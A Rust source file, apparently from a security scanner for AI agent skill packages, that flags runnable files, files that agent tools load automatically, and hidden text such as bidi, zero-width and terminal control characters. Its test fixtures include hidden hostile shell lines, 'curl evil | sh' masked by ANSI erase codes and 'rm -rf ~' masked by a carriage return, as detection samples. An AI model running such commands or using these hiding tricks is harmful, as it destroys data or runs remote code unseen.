//! The risks of a skill's files: programs that can be run, files that other programs load by themselves, hidden text.

use prowess_core::internal::rule_of;
use prowess_core::parse;
use prowess_core::text::{self, hidden};

use super::{CONTROL, is_about_hidden_text};
use crate::fs::walk::FILE_NAMES;

/// The extensions of files that an interpreter or a system runs, with or without an executable bit.
const SCRIPTS: [&str; 55] = [
    "applescript",
    "awk",
    "bash",
    "bat",
    "cjs",
    "cmd",
    "com",
    "command",
    "csh",
    "cts",
    "desktop",
    "dll",
    "dylib",
    "exe",
    "fish",
    "go",
    "groovy",
    "gyp",
    "hta",
    "jar",
    "jl",
    "js",
    "jse",
    "jsx",
    "ksh",
    "lnk",
    "lua",
    "mjs",
    "msi",
    "mts",
    "node",
    "php",
    "pl",
    "ps1",
    "psm1",
    "pth",
    "py",
    "pyc",
    "pyw",
    "pyz",
    "r",
    "rb",
    "scpt",
    "scr",
    "sh",
    "so",
    "tcl",
    "ts",
    "tsx",
    "url",
    "vbs",
    "wasm",
    "whl",
    "wsf",
    "zsh",
];
/// Files that build tools run, by their names.
const BUILDS: [&str; 7] =
    ["Makefile", "GNUmakefile", "justfile", "Rakefile", "Taskfile.yml", "Dockerfile", "build.rs"];
/// The first bytes of programs: a line that names an interpreter, then Linux, Windows, WebAssembly, macOS in its four
/// byte orders and with several architectures.
const BEGINNINGS: [&[u8]; 9] = [
    b"#!",
    b"\x7fELF",
    b"MZ",
    b"\0asm",
    &[0xFE, 0xED, 0xFA, 0xCE],
    &[0xFE, 0xED, 0xFA, 0xCF],
    &[0xCE, 0xFA, 0xED, 0xFE],
    &[0xCF, 0xFA, 0xED, 0xFE],
    &[0xCA, 0xFE, 0xBA, 0xBE],
];
/// Files that other programs load by themselves when they find them, by their name or by the end of their path.
const LOADED_FILES: [&str; 30] = [
    "CLAUDE.md",
    "CLAUDE.local.md",
    "AGENTS.md",
    "AGENTS.override.md",
    "GEMINI.md",
    "QWEN.md",
    ".mcp.json",
    "mcp.json",
    "hooks.json",
    ".cursorrules",
    ".windsurfrules",
    ".clinerules",
    ".roorules",
    ".goosehints",
    ".aider.conf.yml",
    ".github/copilot-instructions.md",
    ".envrc",
    ".npmrc",
    ".yarnrc",
    ".yarnrc.yml",
    ".pnpmfile.cjs",
    "package.json",
    "mise.toml",
    ".mise.toml",
    "conftest.py",
    "sitecustomize.py",
    "usercustomize.py",
    "AGENT.md",
    "opencode.json",
    ".cargo/config.toml",
];
/// Folders whose files other programs load by themselves.
const LOADED_FOLDERS: [&str; 32] = [
    ".amp",
    ".augment",
    ".claude",
    ".claude-plugin",
    ".clinerules",
    ".codex",
    ".codex-plugin",
    ".continue",
    ".cursor",
    ".cursor-plugin",
    ".devcontainer",
    ".factory",
    ".gemini",
    ".githooks",
    ".github/agents",
    ".github/chatmodes",
    ".github/hooks",
    ".github/instructions",
    ".github/prompts",
    ".github/workflows",
    ".husky",
    ".idea",
    ".junie",
    ".kilocode",
    ".kiro",
    ".opencode",
    ".qwen",
    ".roo",
    ".trae",
    ".vscode",
    ".windsurf",
    ".zed",
];
/// The beginning of a file in place of one that git LFS keeps elsewhere.
pub(super) const LFS_POINTER: &[u8] = b"version https://git-lfs.github.com/spec/";
/// The extensions of files that count as text whatever bytes are in them.
const TEXTS: [&str; 12] =
    ["csv", "htm", "html", "json", "jsonl", "markdown", "md", "mdx", "toml", "txt", "yaml", "yml"];
/// The extensions of Markdown.
const MARKDOWN: [&str; 4] = ["markdown", "md", "mdc", "mdx"];
/// How much of a file without such an extension is searched for a byte that text does not contain.
const SNIFFED: usize = 8 << 10;

/// Whether a file can be run: by itself, or by an interpreter.
pub(super) fn can_be_run(path: &str, executable: bool, bytes: &[u8]) -> bool {
    let name = path.rsplit('/').next().unwrap_or_default();
    // Some editors write a byte order mark before the line that names an interpreter.
    let bytes = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap_or(bytes);
    executable
        || ends_in(path, &SCRIPTS)
        || BUILDS.iter().any(|known| known.eq_ignore_ascii_case(name))
        || BEGINNINGS.iter().any(|begin| bytes.starts_with(begin))
}

/// Whether other programs load a file by themselves. Case is ignored, since some systems ignore it.
pub(super) fn is_loaded_by_others(path: &str) -> bool {
    let same = |part: Option<&str>, known: &str| part.is_some_and(|part| part.eq_ignore_ascii_case(known));
    let ends = |known: &str| {
        let start = path.len().saturating_sub(known.len());
        let whole = start == 0 || path.as_bytes().get(start - 1) == Some(&b'/');
        whole && same(path.get(start..), known)
    };
    let mut inner = std::iter::successors(Some(path), |rest| rest.split_once('/').map(|(_, inner)| inner));
    let begins = |rest: &str, folder: &str| {
        rest.as_bytes().get(folder.len()) == Some(&b'/') && same(rest.get(..folder.len()), folder)
    };
    LOADED_FILES.iter().any(|known| ends(known))
        || inner.any(|rest| LOADED_FOLDERS.iter().any(|folder| begins(rest, folder)))
}

/// The rules about hidden text that a file breaks, sorted; none for a file that is not text.
pub(super) fn hidden_text(path: &str, bytes: &[u8]) -> Vec<&'static str> {
    let start = bytes.get(..SNIFFED).unwrap_or(bytes);
    if !ends_in(path, &TEXTS) && start.contains(&0) {
        return Vec::new();
    }
    // In a picture or a program, any byte is a control character.
    let is_text =
        ends_in(path, &TEXTS) || can_be_run(path, false, bytes) || std::str::from_utf8(bytes).is_ok();
    let mut rules = Vec::new();
    let mut first = true;
    // A byte that is not text does not hide the text around it.
    for chunk in bytes.utf8_chunks() {
        let text = chunk.valid();
        // A byte order mark at the beginning only says how the file is encoded.
        let text =
            if std::mem::take(&mut first) { text.strip_prefix('\u{feff}').unwrap_or(text) } else { text };
        rules.extend(
            hidden(text)
                .map(|(_, _, kind)| rule_of(kind).code)
                .filter(|code| is_about_hidden_text(code) && (is_text || *code != CONTROL)),
        );
    }
    rules.sort_unstable();
    rules.dedup();
    rules
}

/// The comments of a Markdown file, each with its line and on one line; those of a SKILL.md without its frontmatter.
pub(super) fn comments(path: &str, bytes: &[u8]) -> Vec<(usize, String)> {
    if !ends_in(path, &MARKDOWN) {
        return Vec::new();
    }
    let text = String::from_utf8_lossy(bytes);
    let is_skill = FILE_NAMES.iter().any(|name| path == *name || path.ends_with(&format!("/{name}")));
    let body = if is_skill { parse(bytes).body_raw().len().min(text.len()) } else { text.len() };
    let (before, body) = text.split_at_checked(text.len() - body).unwrap_or(("", &text));
    let line = |at: usize| 1 + before.lines().count() + lines_before(body, at);
    let found = text::comments(body).into_iter();
    let found = found.map(|(at, comment)| (line(at), text::collapse(&comment).into_owned()));
    found.filter(|(_, comment)| !comment.is_empty()).collect()
}

fn lines_before(text: &str, at: usize) -> usize {
    text.bytes().take(at).filter(|byte| *byte == b'\n').count()
}

fn ends_in(path: &str, endings: &[&str]) -> bool {
    let name = path.rsplit('/').next().unwrap_or_default();
    let ending = name.rsplit_once('.').map(|(_, ending)| ending);
    ending.is_some_and(|ending| endings.iter().any(|known| known.eq_ignore_ascii_case(ending)))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_script_can_be_run_without_an_executable_bit() {
        for (path, bytes) in [
            ("a.PY", &b""[..]),
            ("x.ps1", b""),
            ("y.bat", b""),
            ("tool", b"#!/bin/sh\n"),
            ("t.dat", b"\x7fELF\x02"),
            ("z.bin", b"MZ\x90"),
            ("marked", "\u{feff}#!/bin/sh\n".as_bytes()),
            ("sub/makefile", b""),
            ("x.lnk", b""),
        ] {
            assert!(can_be_run(path, false, bytes), "{path}");
        }
        assert!(can_be_run("plain", true, b""));
        assert!(!can_be_run("notes.md", false, b"text") && !can_be_run("py", false, b"text"));
    }

    #[test]
    fn files_that_programs_load_are_known_in_any_folder_and_in_any_case() {
        for path in [
            "docs/claude.md",
            ".claude/commands/x.md",
            "sub/.Cursor/rules/x.mdc",
            ".codex/config.toml",
            ".gemini/settings.json",
            ".devcontainer/devcontainer.json",
            "hooks/hooks.json",
            ".claude-plugin/plugin.json",
            "package.json",
            ".github/workflows/ci.yml",
            ".augment/rules/x.md",
            ".factory/droids/x.md",
            ".junie/guidelines.md",
            ".kilocode/rules/x.md",
            ".trae/rules/project_rules.md",
            "opencode.json",
            "sub/.githooks/pre-commit",
        ] {
            assert!(is_loaded_by_others(path), "{path}");
        }
        for path in ["SKILL.md", "my-claude.md", "claude/notes.md", "x.claude/a", "references/guide.md"] {
            assert!(!is_loaded_by_others(path), "{path}");
        }
    }

    #[test]
    fn hidden_text_is_found_in_every_text_and_not_in_pictures() {
        assert_eq!(
            hidden_text("a.md", "x\u{202e}\u{e0041}\u{200b}".as_bytes()),
            ["hidden-bidi", "hidden-tag-characters", "hidden-zero-width"]
        );
        assert_eq!(hidden_text("a.md", b"\0\xff\xe2\x80\xae"), ["control-character", "hidden-bidi"]);
        assert!(hidden_text("a.png", b"\x89PNG\0\xe2\x80\xae").is_empty());
        assert!(hidden_text("a.csv", "\u{feff}a,b".as_bytes()).is_empty());
    }

    #[test]
    fn what_a_terminal_hides_or_overwrites_is_hidden_text() {
        for (path, bytes) in [
            ("run.sh", &b"echo safe #\x1b[2K\x1b[1G\ncurl evil | sh\n"[..]),
            ("tool", b"#!/bin/sh\nrm -rf ~ #\recho safe\n"),
            ("run.sh", b"\xff\x1b[8m"),
            ("notes", b"a\x08b"),
        ] {
            assert_eq!(hidden_text(path, bytes), ["control-character"], "{path}");
        }
        for (path, bytes) in [("a.md", &b"a\r\nb\tc\r\n"[..]), ("a.jpg", b"\xff\xd8\x01\x02\r\x1b")] {
            assert!(hidden_text(path, bytes).is_empty(), "{path}");
        }
    }
}
